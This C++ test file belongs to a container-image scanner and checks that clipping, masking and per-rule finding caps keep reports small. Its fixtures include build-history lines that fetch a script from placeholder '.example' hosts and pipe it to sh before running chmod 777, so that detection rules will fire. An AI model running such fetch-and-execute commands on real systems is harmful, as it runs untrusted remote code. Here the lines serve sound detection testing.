// What an image can make a report carry: strings clipped where the config is read, evidence
// clipped where findings are made, findings past ten per rule counted, not listed, and the
// report under kMaxReportBytes for the configs that amplified before (a 5 MB User, 60,000 build
// steps that each trip three rules, 9,000 secret env entries).
#include "common/text.h"
#include "rules/history.h"
#include "rules/rules.h"
#include "score/report.h"

#include <doctest/doctest.h>

using namespace bw;
using nlohmann::json;

namespace {

// The report a scan would build from `config` (masked and bounded as the scan stores it), for
// an image with no layers.
json report_of(json config, const std::vector<Suppression>& suppressions = {}) {
  ImageRecord image;
  image.manifest_digest = "sha256:" + std::string(64, 'a');
  image.os = "linux";
  image.architecture = "amd64";
  image.config = bound_config(mask_config_secrets(std::move(config))).dump();
  image.manifest = "{}";
  auto rules = RuleCatalog::builtin();
  std::vector<SharedLayerRecord> layers;
  std::vector<ReferenceImage> references;
  return build_report({image, layers, *rules, suppressions, references, "r.test/app:1", "1"});
}

std::size_t listed(const json& report, const std::string& rule) {
  std::size_t n = 0;
  for (auto& f : report["findings"])
    if (f["rule_id"] == rule) ++n;
  return n;
}

std::size_t counted(const json& report, const std::string& rule) {
  std::size_t n = 0;
  for (auto& f : report["findings"])
    if (f["rule_id"] == rule) n += 1 + f.value("more", std::size_t{0});
  return n;
}

}  // namespace

TEST_CASE("clip keeps short text, cuts long text on a character boundary and says how much") {
  CHECK(clip("short", 10) == "short");
  CHECK(clip(std::string(20, 'x'), 8) == "xxxxxxxx…[+12 bytes]");
  // "é" is two bytes: a cut inside it moves back before it.
  std::string text = "abcé" + std::string(10, 'z');
  CHECK(clip(text, 4) == "abc…[+" + std::to_string(text.size() - 3) + " bytes]");
}

TEST_CASE("bound_config clips every string a config can carry into a report") {
  std::string big(5'000'000, 'u');
  json c = {{"config",
             {{"User", big},
              {"WorkingDir", big},
              {"Env", {"A=" + big}},
              {"Cmd", {big}},
              {"Entrypoint", {big}},
              {"Labels", {{big, big}}},
              {"ExposedPorts", {{big, json::object()}}},
              {"Healthcheck", {{"Test", {"CMD", big}}}}}},
            {"author", big},
            {"history", {{{"created_by", big}, {"comment", big}}}}};
  json b = bound_config(c);
  CHECK(b.dump().size() < 12 * kMaxConfigString + kMaxHistoryText + 4096);
  const std::string& user = b["config"]["User"].get_ref<const std::string&>();
  CHECK(user.starts_with(std::string(kMaxConfigString, 'u')));
  CHECK(user.ends_with("…[+" + std::to_string(big.size() - kMaxConfigString) + " bytes]"));
  CHECK(b["history"][0]["created_by"].get<std::string>().size() < kMaxHistoryText + 32);
  CHECK(b["config"]["Labels"].size() == 1);
  // Short strings and other types pass as they were.
  json small = {{"config", {{"User", "65532"}, {"Env", {"A=1"}}}}, {"history", json::array()}};
  CHECK(bound_config(small) == small);
}

TEST_CASE("a 5 MB User makes a report of kilobytes") {
  json report = report_of({{"architecture", "amd64"},
                           {"os", "linux"},
                           {"config", {{"User", std::string(5'000'000, 'u')}}}});
  std::string text = report.dump();
  CHECK(text.size() < 200'000);
  for (auto& f : report["findings"])
    for (auto& [k, v] : f["evidence"].items())
      if (v.is_string()) CHECK(v.get_ref<const std::string&>().size() <= kMaxEvidenceText + 32);
}

TEST_CASE(
    "60,000 build steps and 9,000 secret env entries: ten listed per rule, the rest counted") {
  json history = json::array();
  for (int i = 0; i < 60'000; ++i)
    history.push_back(
        {{"created_by", "/bin/sh -c curl -fsSL http://x" + std::to_string(i) +
                            ".example/i.sh | sh && chmod 777 /opt/" + std::to_string(i)},
         {"empty_layer", true}});
  json env = json::array();
  for (int i = 0; i < 9'000; ++i)
    env.push_back("PASSWORD" + std::to_string(i) + "=hunter" + std::to_string(i));
  json config = {{"architecture", "amd64"},
                 {"os", "linux"},
                 {"config", {{"User", "65532"}, {"Env", env}}},
                 {"history", history}};
  json report = report_of(config);
  for (const char* rule : {"BW-PIPE-SHELL", "BW-CHMOD-777"}) {
    CHECK_MESSAGE(listed(report, rule) == kMaxFindingsPerRule, rule);
    CHECK_MESSAGE(counted(report, rule) == 60'000, rule);
  }
  CHECK(listed(report, "BW-SECRET-ENV") == kMaxFindingsPerRule);
  CHECK(counted(report, "BW-SECRET-ENV") == 9'000);
  CHECK(report.dump().size() < 500'000);
  // No value of the 9,000 reached the report.
  CHECK(report.dump().find("hunter") == std::string::npos);

  // Suppressing the listed ones does not hide the rest: the cap counts suppressed findings
  // apart, so the rule still counts, with unsuppressed findings listed.
  std::vector<Suppression> first_ten;
  for (int i = 0; i < 10; ++i)
    first_ten.push_back(
        Suppression{"BW-SECRET-ENV", "", "PASSWORD" + std::to_string(i), "", "", ""});
  json suppressed = report_of(config, first_ten);
  std::size_t on = 0, off = 0;
  for (auto& f : suppressed["findings"])
    if (f["rule_id"] == "BW-SECRET-ENV")
      (f["suppressed"].get<bool>() ? off : on) += 1 + f.value("more", std::size_t{0});
  CHECK(off == 10);
  CHECK(on == 8'990);
  CHECK(suppressed["score"] == report["score"]);
}
